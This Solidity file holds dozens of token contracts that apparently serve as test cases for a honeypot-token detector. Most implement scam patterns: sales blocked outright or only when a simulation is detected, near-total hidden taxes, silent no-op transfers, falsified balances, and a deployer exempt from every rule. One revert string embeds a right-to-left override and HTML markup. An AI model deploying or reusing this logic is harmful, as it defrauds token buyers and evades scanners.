// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IRouter {
    function swapExactTokensForTokensSupportingFeeOnTransferTokens(
        uint256 amountIn, uint256 amountOutMin, address[] calldata path, address to, uint256 deadline
    ) external;
}

/// A token whose transfers pass through one rule; what it mints goes to its deployer, whom no rule touches.
abstract contract Ruled {
    string public name = "Ruled";
    string public symbol = "RLD";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address account => uint256) internal held;
    mapping(address account => mapping(address spender => uint256)) public allowance;
    address internal immutable deployer = msg.sender;
    address public pair;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPair(address pair_) external {
        pair = pair_;
    }

    function balanceOf(address account) external view virtual returns (uint256) {
        return held[account];
    }

    function approve(address spender, uint256 amount) external virtual returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external virtual returns (bool) {
        return move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        return move(from, to, amount);
    }

    function move(address from, address to, uint256 amount) internal returns (bool) {
        uint256 tax = from == deployer || tx.origin == deployer ? 0 : rule(from, to, amount);
        held[from] -= amount;
        held[to] += amount - tax;
        held[address(this)] += tax;
        emit Transfer(from, to, amount - tax);
        if (tax > 0) emit Transfer(from, address(this), tax);
        return true;
    }

    function rule(address from, address to, uint256 amount) internal virtual returns (uint256 tax);
}

/// Sells for whoever looks like a simulation by a contract: it has code, or it is not the origin of the transaction.
contract TellingSimulationsApart is Ruled {
    function rule(address from, address to, uint256) internal view override returns (uint256) {
        require(to != pair || from.code.length > 0 || tx.origin != from, "no");
        return 0;
    }
}

/// Sells only where the gas price or the fee recipient is zero, as in a simulation that sets neither.
contract AskingForGasPrice is Ruled {
    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to != pair || tx.gasprice == 0 || block.coinbase == address(0), "not in production");
        return 0;
    }
}

/// Burns all gas on a sale.
contract BurningGas is Ruled {
    function rule(address, address to, uint256) internal view override returns (uint256) {
        if (to == pair) while (gasleft() > 0) {}
        return 0;
    }
}

/// Reverts a sale with half a megabyte.
contract RevertingAtLength is Ruled {
    function rule(address, address to, uint256) internal view override returns (uint256) {
        if (to == pair) {
            assembly {
                revert(0, 500000)
            }
        }
        return 0;
    }
}

/// Burns all gas in balanceOf, but for its pair.
contract UnreadableBalances is Ruled {
    function balanceOf(address account) external view override returns (uint256) {
        if (account != pair) while (gasleft() > 0) {}
        return held[account];
    }

    function rule(address, address, uint256) internal pure override returns (uint256) {
        return 0;
    }
}

/// Forgets what every other account has, without a word.
contract ForgettingHolders is Ruled {
    function balanceOf(address account) external view override returns (uint256) {
        return account != pair && account != deployer && uint160(account) % 2 == 0 ? 0 : held[account];
    }

    function rule(address, address, uint256) internal pure override returns (uint256) {
        return 0;
    }
}

/// Lets nobody buy yet.
contract ClosedGate is Ruled {
    function rule(address, address, uint256) internal pure override returns (uint256) {
        revert(unicode"trading not open\u202e\n<b>yet</b>");
    }
}

/// Keeps nearly all of what is bought.
contract TakingPurchases is Ruled {
    function rule(address from, address, uint256 amount) internal view override returns (uint256) {
        return from == pair ? (amount * 97) / 100 : 0;
    }
}

/// Lets small amounts be sold and no others.
contract LimitingSales is Ruled {
    function rule(address, address to, uint256 amount) internal view override returns (uint256) {
        require(to != pair || amount <= 100 ether, "too much");
        return 0;
    }
}

/// Takes a tenth of each sale.
contract TakingSales is Ruled {
    function rule(address, address to, uint256 amount) internal view override returns (uint256) {
        return to == pair ? amount / 10 : 0;
    }
}

/// Reports success of a transfer between accounts and moves nothing.
contract SilentTransfers is Ruled {
    function rule(address from, address to, uint256 amount) internal override returns (uint256) {
        if (from != pair && to != pair) {
            // What move() does next is undone here beforehand.
            held[from] += amount;
            return amount;
        }
        return 0;
    }
}

/// Takes 7 % of each sale and sells what it took so far, in the seller's own transfer.
contract SellingItsTax is Ruled {
    IRouter private constant router = IRouter(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
    address private constant weth = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    bool private selling;

    function rule(address from, address to, uint256 amount) internal override returns (uint256) {
        if (to != pair || from == address(this)) return 0;
        uint256 own = held[address(this)];
        if (own > 0 && !selling) {
            selling = true;
            allowance[address(this)][address(router)] = own;
            address[] memory path = new address[](2);
            (path[0], path[1]) = (address(this), weth);
            router.swapExactTokensForTokensSupportingFeeOnTransferTokens(own, 0, path, deployer, block.timestamp);
            selling = false;
        }
        return (amount * 7) / 100;
    }
}

/// Plain, for pools of other kinds.
contract Plain is Ruled {
    function rule(address, address, uint256) internal pure override returns (uint256) {
        return 0;
    }
}

/// Can be sold for ten days.
contract ClosingInTime is Ruled {
    uint256 private immutable closes = block.timestamp + 10 days;

    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to != pair || block.timestamp < closes, "closed");
        return 0;
    }
}

/// From day 60 to day 200 its holders can sell, but not send.
contract KeptForASeason is Ruled {
    uint256 private immutable since = block.timestamp;

    function transfer(address to, uint256 amount) external override returns (bool) {
        uint256 day = (block.timestamp - since) / 1 days;
        if (day >= 60 && day < 200 && msg.sender != pair && msg.sender != deployer) return false;
        return move(msg.sender, to, amount);
    }

    function rule(address, address, uint256) internal pure override returns (uint256) {
        return 0;
    }
}

/// Can be sold for a hundred thousand blocks.
contract ClosingInBlocks is Ruled {
    uint256 private immutable closes = block.number + 100_000;

    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to != pair || block.number < closes, "closed");
        return 0;
    }
}

/// Takes half of each sale from the day after its launch.
contract TaxingLater is Ruled {
    uint256 private immutable from_ = block.timestamp + 1 days;

    function rule(address, address to, uint256 amount) internal view override returns (uint256) {
        return to == pair && block.timestamp > from_ ? amount / 2 : 0;
    }
}

/// Takes a part of what moves, 99 % at its launch, which falls evenly to nothing.
abstract contract Opening is Ruled {
    uint256 private immutable opened = clock();

    function clock() internal view virtual returns (uint256);

    function span() internal pure virtual returns (uint256);

    function taken(uint256 amount) internal view returns (uint256) {
        uint256 age = clock() - opened;
        uint256 percent = age < span() ? 99 - (99 * age) / span() : 0;
        return (amount * percent) / 100;
    }

    function rule(address, address, uint256 amount) internal view virtual override returns (uint256) {
        return taken(amount);
    }
}

contract OpeningSeconds is Opening {
    function clock() internal view override returns (uint256) {
        return block.timestamp;
    }

    function span() internal pure override returns (uint256) {
        return 20;
    }
}

contract OpeningMinutes is Opening {
    function clock() internal view override returns (uint256) {
        return block.timestamp;
    }

    function span() internal pure override returns (uint256) {
        return 600;
    }
}

contract OpeningBlocks is Opening {
    function clock() internal view override returns (uint256) {
        return block.number;
    }

    function span() internal pure override returns (uint256) {
        return 10;
    }
}

/// The same of sales alone.
contract OpeningSales is OpeningSeconds {
    function rule(address, address to, uint256 amount) internal view override returns (uint256) {
        return to == pair ? taken(amount) : 0;
    }
}

/// Never ends, and compares nothing: half after ten minutes, and a third after twenty.
contract OpeningCurve is Ruled {
    uint256 private immutable opened = block.timestamp;

    function rule(address, address, uint256 amount) internal view override returns (uint256) {
        unchecked {
            return (amount * 99 * 600) / (100 * (600 + block.timestamp - opened));
        }
    }
}

/// Sells only where the block has no base fee, as in a simulation that sets none.
contract AskingForBaseFee is Ruled {
    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to != pair || block.basefee == 0, "no");
        return 0;
    }
}

/// Is neither bought nor sold by contracts.
contract RefusingContracts is Ruled {
    function rule(address from, address to, uint256) internal view override returns (uint256) {
        require((from == pair || from.code.length == 0) && (to == pair || to.code.length == 0), "no contracts");
        return 0;
    }
}

/// Is sold by accounts whose address begins with a low digit.
contract ChoosingSenders is Ruled {
    function rule(address from, address to, uint256) internal view override returns (uint256) {
        require(to != pair || uint160(from) >> 159 == 0, "no");
        return 0;
    }
}

/// Lets each account sell once.
contract SellingOnce is Ruled {
    mapping(address account => bool) private sold;

    function rule(address from, address to, uint256) internal override returns (uint256) {
        if (to == pair) {
            require(!sold[from], "once");
            sold[from] = true;
        }
        return 0;
    }
}

/// Lets one account sell, and nobody after it in a later block.
contract ClosingAfterTheFirst is Ruled {
    uint256 private soldIn;

    function rule(address, address to, uint256) internal override returns (uint256) {
        if (to == pair) {
            require(soldIn == 0 || soldIn == block.number, "sold out");
            soldIn = block.number;
        }
        return 0;
    }
}

/// Lets nobody sell the last unit.
contract KeepingDust is Ruled {
    function rule(address from, address to, uint256 amount) internal view override returns (uint256) {
        require(to != pair || amount < held[from], "keep some");
        return 0;
    }
}

/// Trades no more than nothing at a time.
contract LimitingToNothing is Ruled {
    function rule(address from, address to, uint256 amount) internal view override returns (uint256) {
        require((from != pair && to != pair) || amount <= 0, "over the limit");
        return 0;
    }
}

/// Gives small amounts to buyers and no others.
contract LimitingPurchases is Ruled {
    function rule(address from, address, uint256 amount) internal view override returns (uint256) {
        require(from != pair || amount <= 10 ether, "over the limit");
        return 0;
    }
}

/// Is bought by its owner alone.
contract NotLaunched is Ruled {
    address public immutable owner = msg.sender;

    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to == owner, "not yet");
        return 0;
    }
}

/// Is sold by those on a list, on which nobody is.
contract ListingSellers is Ruled {
    mapping(address account => bool) public listed;

    function rule(address from, address to, uint256) internal view override returns (uint256) {
        require(to != pair || listed[from], "not listed");
        return 0;
    }
}

abstract contract Listing is Ruled {
    mapping(address account => bool) public listed;

    function list(address[] calldata accounts, bool isListed) external {
        for (uint256 i = 0; i < accounts.length; i++) listed[accounts[i]] = isListed;
    }
}

/// Moves among who is on its list, as the shares of a fund do.
contract AmongListed is Listing {
    function rule(address from, address to, uint256) internal view override returns (uint256) {
        require(listed[from] && listed[to], "not listed");
        return 0;
    }
}

/// Lets who is on its list send to everybody, and everybody else to the list alone.
contract ToListed is Listing {
    function rule(address from, address to, uint256) internal view override returns (uint256) {
        require(listed[from] || listed[to], "not listed");
        return 0;
    }
}

/// Is sold by who bought once, and by nobody who bought again.
contract RefusingRegulars is Ruled {
    mapping(address account => uint256) private bought;

    function rule(address from, address to, uint256) internal override returns (uint256) {
        if (from == pair) bought[to]++;
        require(to != pair || bought[from] < 2, "once");
        return 0;
    }
}

/// Lets itself be taken by a spender who may take more.
contract RefusingExactAllowances is Ruled {
    function rule(address from, address to, uint256) internal view override returns (uint256) {
        require(to != pair || allowance[from][msg.sender] > 0, "not enough");
        return 0;
    }
}

/// Takes nearly all of what large holders sell.
contract TaxingLargeHolders is Ruled {
    function rule(address from, address to, uint256 amount) internal view override returns (uint256) {
        return to == pair && held[from] > totalSupply / 100 ? (amount * 99) / 100 : 0;
    }
}

/// Lets no more be sold than a hundredth of what its pool holds.
contract SparingItsPool is Ruled {
    function rule(address, address to, uint256 amount) internal view override returns (uint256) {
        require(to != pair || amount <= held[pair] / 100, "too much");
        return 0;
    }
}

/// Lets nobody but its pool get to hold more than a fiftieth.
contract LimitingHoldings is Ruled {
    function rule(address, address to, uint256 amount) internal view override returns (uint256) {
        require(to == pair || held[to] + amount <= totalSupply / 50, "too much");
        return 0;
    }
}

/// Takes nine tenths of what a seller keeps.
contract TakingTheRest is Ruled {
    function rule(address from, address to, uint256 amount) internal override returns (uint256) {
        if (to != pair) return 0;
        uint256 taken = ((held[from] - amount) * 9) / 10;
        held[from] -= taken;
        held[address(this)] += taken;
        return 0;
    }
}

/// Is sold half an hour after its purchase, or after its launch by who had it then, unless the wait is made longer.
contract Cooling is Ruled {
    uint256 private immutable launched = block.timestamp;
    uint256 public wait = 30 minutes;
    mapping(address account => uint256) private bought;

    function setWait(uint256 seconds_) external {
        wait = seconds_;
    }

    function rule(address from, address to, uint256) internal override returns (uint256) {
        if (from == pair) bought[to] = block.timestamp;
        uint256 since = bought[from] == 0 ? launched : bought[from];
        if (to == pair) require(block.timestamp >= since + wait, "cooling");
        return 0;
    }
}

/// Cannot be sold from the 50th to the 130th day.
contract ClosedForASeason is Ruled {
    uint256 private immutable closes = block.timestamp + 50 days;
    uint256 private immutable opens = block.timestamp + 130 days;

    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to != pair || block.timestamp < closes || opens < block.timestamp, "closed");
        return 0;
    }
}

/// Takes most of what is sent in some weeks, which are counted in blocks and kept in one word.
contract DearWeeks is Ruled {
    uint64 private first = uint64(block.number + 300_000);
    uint64 private last = uint64(block.number + 650_000);

    function rule(address, address, uint256 amount) internal view override returns (uint256) {
        bool dear = block.number >= first && block.number - first < last - first;
        return (amount * (dear ? 95 : 1)) / 100;
    }
}

/// Cannot be sold in the last 40 of each 120 days.
contract ClosedByPeriod is Ruled {
    uint256 private immutable launched = block.timestamp;

    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to != pair || ((block.timestamp - launched) / 1 days) % 120 < 80, "closed");
        return 0;
    }
}

/// Nobody can approve from the 60th to the 200th day.
contract NoApprovals is Ruled {
    uint256 private immutable launched = block.timestamp;

    function approve(address spender, uint256 amount) external override returns (bool) {
        uint256 age = block.timestamp - launched;
        require(age <= 60 days || age >= 200 days || msg.sender == deployer, "later");
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function rule(address, address, uint256) internal pure override returns (uint256) {
        return 0;
    }
}

/// Shows its pool less than it has, from the 70th to the 150th day.
contract ShowingLess is Ruled {
    uint256 private immutable launched = block.timestamp;

    function balanceOf(address account) external view override returns (uint256) {
        uint256 age = (block.timestamp - launched) / 1 hours;
        return account == pair && age > 1680 && age < 3600 ? held[account] / 2 : held[account];
    }

    function rule(address, address, uint256) internal pure override returns (uint256) {
        return 0;
    }
}

/// Cannot be sold while a hash of the day says so.
contract ClosedByHash is Ruled {
    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to != pair || uint256(keccak256(abi.encode(block.timestamp / 1 days))) % 1000 != 7, "closed");
        return 0;
    }
}

/// Limits what is sent at first, and less each day.
contract GrowingLimit is Ruled {
    uint256 private immutable launched = block.timestamp;

    function most() public view returns (uint256) {
        uint256 age = (block.timestamp - launched) / 1 days;
        return age < 30 ? 30_000 ether + 10_000 ether * age : type(uint256).max;
    }

    function rule(address, address, uint256 amount) internal view override returns (uint256) {
        require(amount <= most(), "most");
        return 0;
    }
}

/// Keeps what accounts had and when, as votes do.
abstract contract Stamping is Ruled {
    struct Stamp {
        uint48 at;
        uint208 amount;
    }

    mapping(address account => Stamp[]) private stamps;

    function clock() internal view virtual returns (uint48);

    function stamp(address account, uint256 amount) private {
        Stamp[] storage all = stamps[account];
        uint48 at = clock();
        if (all.length > 0) {
            Stamp storage last = all[all.length - 1];
            require(last.at <= at, "unordered");
            if (last.at == at) {
                last.amount = uint208(amount);
                return;
            }
        }
        all.push(Stamp(at, uint208(amount)));
    }

    function rule(address from, address to, uint256 amount) internal override returns (uint256) {
        stamp(from, held[from] - amount);
        stamp(to, held[to] + amount);
        return 0;
    }
}

contract StampingTime is Stamping {
    function clock() internal view override returns (uint48) {
        return uint48(block.timestamp);
    }
}

contract StampingBlocks is Stamping {
    function clock() internal view override returns (uint48) {
        return uint48(block.number);
    }
}

/// Takes a twentieth of each transfer.
contract Deflating is Ruled {
    function rule(address, address, uint256 amount) internal pure override returns (uint256) {
        return amount / 20;
    }
}

/// Is sold by Uniswap's router, and by no other contract or account.
contract AllowingItsRouter is Ruled {
    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to != pair || msg.sender == 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D, "unknown router");
        return 0;
    }
}

/// Is sold by whoever is not Uniswap's router.
contract RefusingItsRouter is Ruled {
    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to != pair || msg.sender != 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D, "not by this");
        return 0;
    }
}

/// Is taxed where Uniswap's router does not take it.
contract TaxingOtherRouters is Ruled {
    function rule(address, address to, uint256 amount) internal view override returns (uint256) {
        return to == pair && msg.sender != 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D ? amount / 2 : 0;
    }
}

/// Is bought, and sold by nobody.
contract Closed is Ruled {
    function rule(address, address to, uint256) internal view override returns (uint256) {
        require(to != pair, "closed");
        return 0;
    }
}
